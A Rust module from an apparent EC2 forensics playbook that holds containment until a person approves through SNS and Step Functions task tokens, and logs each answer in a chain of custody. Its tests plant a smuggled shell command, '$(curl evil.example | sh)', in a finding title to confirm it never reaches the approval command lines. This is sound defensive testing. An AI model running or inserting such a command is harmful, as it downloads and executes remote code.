//! The approval gate: a case the policy sends to a person waits here before
//! anything touches the instance.
//!
//! `request-approval` runs as a `.waitForTaskToken` task: it keeps the task
//! token with the case (a new version of `cases/<id>/case.json` in the
//! evidence store), publishes the request to the SNS topic and returns; the
//! execution then waits. `ec2-forensics approve` / `deny` read the token from
//! the stored Case and answer with `SendTaskSuccess` / `SendTaskFailure`.
//! `record-approval` then records the answer (or the timeout) in the chain of
//! custody, with the approver as the actor, and the state machine goes on or
//! ends on `approval.proceed`.
//!
//! A `.waitForTaskToken` task's result is the answer, not what its Lambda
//! returned, so `record-approval` continues from the Case that
//! `request-approval` stored, once it has checked that the stored Case extends
//! the execution's own.

use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::aws::{Config, Responder};
use crate::case::approval::{Approval, ApprovalAnswer, ApprovalOutcome, DENIED_ERROR};
use crate::case::custody::{entry, now_utc};
use crate::case::{Action, Case};
use crate::error::{AwsCall, PlaybookError, Result};
use crate::steps::evidence::store::EvidenceStore;
use crate::steps::printable_line;

/// The request step's name in custody entries and errors.
pub const REQUEST_STEP: &str = "request-approval";
/// The recording step's name.
pub const RECORD_STEP: &str = "record-approval";

/// What the gate's task hands `request-approval`: the Case and the token
/// (`"taskToken.$": "$$.Task.Token"`).
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ApprovalRequest {
    /// The Case as triage left it.
    pub case: Value,
    /// The task token that resumes the execution.
    pub task_token: String,
}

/// What `record-approval` is handed: the Case and what the gate's task ended
/// with (`$.approvalAnswer`: approve's output or the caught error).
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ApprovalResult {
    /// The execution's Case.
    pub case: Value,
    /// The task's output or the caught `{Error, Cause}`.
    pub answer: Value,
}

/// The notification a person receives: what was found, what will happen,
/// and how to answer. Finding text appears only as text, never inside a
/// command line; the commands carry the case id alone.
pub fn notification(case: &Case, timeout_seconds: u64, on_timeout: &str) -> (String, String) {
    let incident = &case.incident;
    let subject = printable_line(
        &format!(
            "EC2 forensics approval needed: {} on {}",
            incident.finding_type,
            incident.instance_ids.join(", ")
        ),
        100,
    );
    let dry_run = if case.decision.dry_run {
        "\nThis is a dry run: the steps report what they would change and change nothing.\n"
    } else {
        ""
    };
    let body = format!(
        "Case {case_id} waits for your decision.\n\
         \n\
         What was found\n\
         - {title}\n\
         - type {kind}, severity {severity:.1}, source {source:?}\n\
         - instances: {instances}\n\
         - account {account}, region {region}\n\
         - why approval is needed: {reason}\n\
         \n\
         What will happen once approved\n\
         - metadata, console output and EBS snapshots of every volume are captured;\n\
         - termination protection on, shutdown behaviour stop, the instance is taken out of\n  its Auto Scaling group and load balancers;\n\
         - every network interface is moved to an isolation security group with no rule,\n  and network ACL entries cut flows that stay tracked;\n\
         - the snapshots are copied under the forensic key and the evidence is sealed.\n\
         {dry_run}\
         \n\
         If no one answers within {timeout_seconds} s, the policy says: {on_timeout}.\n\
         \n\
         To approve:  ec2-forensics approve --case-id {case_id}\n\
         To deny:     ec2-forensics deny --case-id {case_id} --reason \"...\"\n\
         To watch:    ec2-forensics status --case-id {case_id}\n",
        case_id = case.case_id,
        title = incident.title,
        kind = incident.finding_type,
        severity = incident.severity,
        source = incident.source,
        instances = incident.instance_ids.join(", "),
        account = incident.account.as_deref().unwrap_or("(the responder's own)"),
        region = incident.region,
        reason = case.decision.reason,
    );
    (subject, body)
}

fn parse_input<T: serde::de::DeserializeOwned>(input: Value, step: &str) -> Result<T> {
    serde_json::from_value(input)
        .map_err(|e| PlaybookError::InvalidCase(format!("{step} was not given what it needs: {e}")))
}

/// Stores the token with the case and asks a person. Fails (and the state
/// machine records why) when there is no topic or store: a request no one can
/// receive or answer is not a request.
pub async fn request_approval(responder: &Responder, input: Value) -> Result<Case> {
    let request: ApprovalRequest = parse_input(input, REQUEST_STEP)?;
    let mut case = Case::from_input(request.case)?;
    if case.decision.action != Action::Approve {
        return Err(PlaybookError::InvalidCase(format!(
            "case {} was decided {:?}, not approve: there is nothing to ask",
            case.case_id, case.decision.action
        )));
    }
    let store = EvidenceStore::required(responder)?;
    let topic = Config::required(&responder.config.approval_topic_arn, "APPROVAL_TOPIC_ARN")?;
    let timeout_seconds = case
        .decision
        .approval_timeout_seconds
        .unwrap_or(case.policy.approval_timeout_seconds);
    let on_timeout = case.policy.on_approval_timeout;
    let on_timeout_text = match on_timeout {
        crate::policy::ApprovalTimeout::Stop => "stop, the instance is left as it is",
        crate::policy::ApprovalTimeout::Contain => "contain anyway",
    };
    let (subject, message) = notification(&case, timeout_seconds, on_timeout_text);
    let published = responder
        .clients
        .sns
        .publish()
        .topic_arn(topic)
        .subject(subject)
        .message(message)
        .send()
        .await
        .aws("Publish", None)?;
    let message_id = published.message_id().unwrap_or_default().to_owned();
    let approval = Approval {
        requested_at: now_utc(),
        timeout_seconds,
        on_timeout,
        topic_arn: topic.to_owned(),
        message_id: message_id.clone(),
        task_token: Some(request.task_token),
        answer: None,
        proceed: false,
    };
    case.record(entry(
        REQUEST_STEP,
        &responder.identity.actor,
        format!("asked a person to approve the response; waiting up to {timeout_seconds} s"),
        &["Publish", "PutObject"],
        json!({ "topicArn": topic, "timeoutSeconds": timeout_seconds, "onTimeout": on_timeout }),
        json!({ "messageId": message_id }),
        None,
    ));
    case.approval = Some(approval);
    store.put_case(&mut case).await?;
    tracing::info!(case_id = %case.case_id, message_id = %message_id, "approval requested");
    Ok(case)
}

/// Records the gate's answer and whether the playbook goes on.
pub async fn record_approval(responder: &Responder, input: Value) -> Result<Case> {
    let result: ApprovalResult = parse_input(input, RECORD_STEP)?;
    let flowing = Case::from_input(result.case)?;
    let store = EvidenceStore::required(responder)?;
    let stored = store.latest_case(&flowing.case_id).await?;
    let mut case = continue_from(flowing, stored)?;
    let answer = ApprovalAnswer::from_task_result(&result.answer, &now_utc());
    let on_timeout = case.policy.on_approval_timeout;
    let proceed = answer.proceeds(on_timeout);
    let actor = answer
        .by
        .clone()
        .unwrap_or_else(|| responder.identity.actor.clone());
    let calls: &[&str] = match answer.outcome {
        ApprovalOutcome::Approved => &["SendTaskSuccess"],
        ApprovalOutcome::Denied => &["SendTaskFailure"],
        ApprovalOutcome::TimedOut | ApprovalOutcome::NotRequested => &[],
    };
    let action = match answer.outcome {
        ApprovalOutcome::Approved => "approved the response".to_owned(),
        ApprovalOutcome::Denied => "denied the response: the instance is not touched".to_owned(),
        ApprovalOutcome::TimedOut | ApprovalOutcome::NotRequested if proceed => {
            "no answer: the policy says contain anyway".to_owned()
        }
        ApprovalOutcome::TimedOut | ApprovalOutcome::NotRequested => {
            "no answer: the policy says stop; the instance is not touched".to_owned()
        }
    };
    case.record(entry(
        RECORD_STEP,
        &actor,
        action,
        calls,
        json!({ "outcome": answer.outcome, "reason": answer.reason, "answeredAt": answer.at,
                "recordedBy": responder.identity.actor }),
        json!({ "proceed": proceed }),
        None,
    ));
    let approval = case.approval.get_or_insert_with(|| Approval {
        requested_at: answer.at.clone(),
        timeout_seconds: case.policy.approval_timeout_seconds,
        on_timeout,
        topic_arn: String::new(),
        message_id: String::new(),
        task_token: None,
        answer: None,
        proceed: false,
    });
    approval.task_token = None;
    approval.proceed = proceed;
    approval.answer = Some(answer);
    store.put_case(&mut case).await?;
    tracing::info!(case_id = %case.case_id, proceed, "approval recorded");
    Ok(case)
}

/// The Case to continue from: the stored one when `request-approval` stored
/// a later version of this execution's Case (its chain extends the flowing
/// one), else the flowing Case (the request failed before storing).
pub fn continue_from(flowing: Case, stored: Option<Case>) -> Result<Case> {
    let Some(stored) = stored else {
        return Ok(flowing);
    };
    if stored.case_id != flowing.case_id {
        return Err(PlaybookError::InvalidCase(format!(
            "the stored Case is {}, not {}",
            stored.case_id, flowing.case_id
        )));
    }
    let extends = stored.custody.len() >= flowing.custody.len()
        && stored.custody[..flowing.custody.len()] == flowing.custody[..];
    if !extends {
        return Err(PlaybookError::InvalidCase(format!(
            "the stored Case of {} does not continue this execution's chain of custody",
            flowing.case_id
        )));
    }
    if stored.approval.is_some() {
        Ok(stored)
    } else {
        Ok(flowing)
    }
}

/// What `approve` and `deny` send and print.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Answered {
    /// The case.
    pub case_id: String,
    /// What was answered.
    pub outcome: ApprovalOutcome,
    /// Who answered.
    pub by: String,
    /// When.
    pub at: String,
    /// Why.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
}

/// Answers a waiting gate: approves (`reason` optional) or denies. The
/// approver is the caller identity; the token comes from the stored Case.
pub async fn answer_approval(
    responder: &Responder,
    case_id: &str,
    approve: bool,
    reason: Option<String>,
) -> Result<Answered> {
    let store = EvidenceStore::required(responder)?;
    let case =
        store
            .latest_case(case_id)
            .await?
            .ok_or_else(|| PlaybookError::NotAwaitingApproval {
                case_id: case_id.to_owned(),
                why: format!("the evidence store {} has no Case for it", store.bucket()),
            })?;
    let token = waiting_token(&case)?;
    let answered = Answered {
        case_id: case_id.to_owned(),
        outcome: if approve {
            ApprovalOutcome::Approved
        } else {
            ApprovalOutcome::Denied
        },
        by: responder.identity.actor.clone(),
        at: now_utc(),
        reason,
    };
    let told = serde_json::to_string(&answered)
        .map_err(|e| PlaybookError::InvalidCase(format!("the answer does not serialise: {e}")))?;
    let sfn = &responder.clients.sfn;
    let sent = if approve {
        sfn.send_task_success()
            .task_token(token)
            .output(told)
            .send()
            .await
            .map(|_| ())
            .aws("SendTaskSuccess", None)
    } else {
        sfn.send_task_failure()
            .task_token(token)
            .error(DENIED_ERROR)
            .cause(told)
            .send()
            .await
            .map(|_| ())
            .aws("SendTaskFailure", None)
    };
    sent.map_err(|err| match err.aws_code() {
        Some(code @ ("TaskTimedOut" | "TaskDoesNotExist" | "InvalidToken")) => {
            PlaybookError::NotAwaitingApproval {
                case_id: case_id.to_owned(),
                why: format!("Step Functions answered {code}: the wait has ended"),
            }
        }
        _ => err,
    })?;
    tracing::info!(case_id, outcome = ?answered.outcome, "approval answered");
    Ok(answered)
}

/// The token of a gate that still waits, or why there is none.
pub fn waiting_token(case: &Case) -> Result<&str> {
    let not_waiting = |why: String| PlaybookError::NotAwaitingApproval {
        case_id: case.case_id.clone(),
        why,
    };
    let Some(approval) = &case.approval else {
        return Err(not_waiting(format!(
            "the policy decided {:?}; no approval was requested",
            case.decision.action
        )));
    };
    if let Some(answer) = &approval.answer {
        return Err(not_waiting(format!(
            "already answered: {:?} at {}",
            answer.outcome, answer.at
        )));
    }
    approval
        .task_token
        .as_deref()
        .ok_or_else(|| not_waiting("the stored request holds no task token".into()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::case::custody;

    fn case() -> Case {
        let mut case = crate::case::example_case();
        case.case_id = "gd-abc".into();
        case.incident = crate::case::example_incident(
            crate::case::FindingSource::GuardDuty,
            "CryptoCurrency:EC2/BitcoinTool.B!DNS",
            8.0,
        );
        case.incident.title = "$(curl evil.example | sh) mining".into();
        case.decision = crate::case::Decision {
            action: Action::Approve,
            reason: "instance tagged Environment=production: a person approves first".into(),
            dry_run: false,
            approval_timeout_seconds: Some(600),
            classification: None,
        };
        case
    }

    /// A gate that was asked and waits on `token`.
    fn waiting_gate(token: &str) -> Approval {
        Approval {
            requested_at: now_utc(),
            timeout_seconds: 600,
            on_timeout: Default::default(),
            topic_arn: "arn:aws:sns:us-east-1:1:t".into(),
            message_id: "m".into(),
            task_token: Some(token.into()),
            answer: None,
            proceed: false,
        }
    }

    #[test]
    fn the_notification_says_what_was_found_what_happens_and_how_to_answer() {
        let (subject, body) = notification(&case(), 600, "stop, the instance is left as it is");
        assert!(subject.len() <= 100 && subject.is_ascii() && !subject.contains('\n'));
        assert!(subject.contains("CryptoCurrency:EC2/BitcoinTool.B!DNS"));
        assert!(body.contains("ec2-forensics approve --case-id gd-abc\n"));
        assert!(body.contains("ec2-forensics deny --case-id gd-abc --reason"));
        assert!(body.contains("within 600 s"));
        assert!(body.contains("isolation security group"));
        // The finding's own text is shown, but on no command line.
        let commands: Vec<&str> = body
            .lines()
            .filter(|l| l.contains("ec2-forensics "))
            .collect();
        assert_eq!(commands.len(), 3);
        assert!(commands.iter().all(|l| !l.contains("curl")));
        assert!(body.contains("$(curl evil.example | sh) mining"));
    }

    #[test]
    fn only_a_waiting_gate_has_a_token_to_answer() {
        let mut case = case();
        assert!(waiting_token(&case).is_err(), "no request yet");
        case.approval = Some(waiting_gate("token-1"));
        assert_eq!(waiting_token(&case).unwrap(), "token-1");
        case.approval.as_mut().unwrap().answer = Some(ApprovalAnswer {
            outcome: ApprovalOutcome::Denied,
            by: None,
            at: now_utc(),
            reason: None,
        });
        let err = waiting_token(&case).unwrap_err();
        assert_eq!(err.error_type(), "NotAwaitingApproval");
    }

    #[test]
    fn the_stored_case_is_used_only_when_it_extends_the_executions() {
        let flowing = case();
        assert_eq!(continue_from(flowing.clone(), None).unwrap(), flowing);

        let mut stored = flowing.clone();
        stored.record(custody::entry(
            REQUEST_STEP,
            "me",
            "asked",
            &[],
            Value::Null,
            Value::Null,
            None,
        ));
        stored.approval = Some(waiting_gate("t"));
        assert_eq!(
            continue_from(flowing.clone(), Some(stored.clone())).unwrap(),
            stored
        );

        let mut other = stored.clone();
        other.custody[0].action = "rewritten".into();
        assert_eq!(
            continue_from(flowing, Some(other))
                .unwrap_err()
                .error_type(),
            "InvalidCase"
        );
    }
}
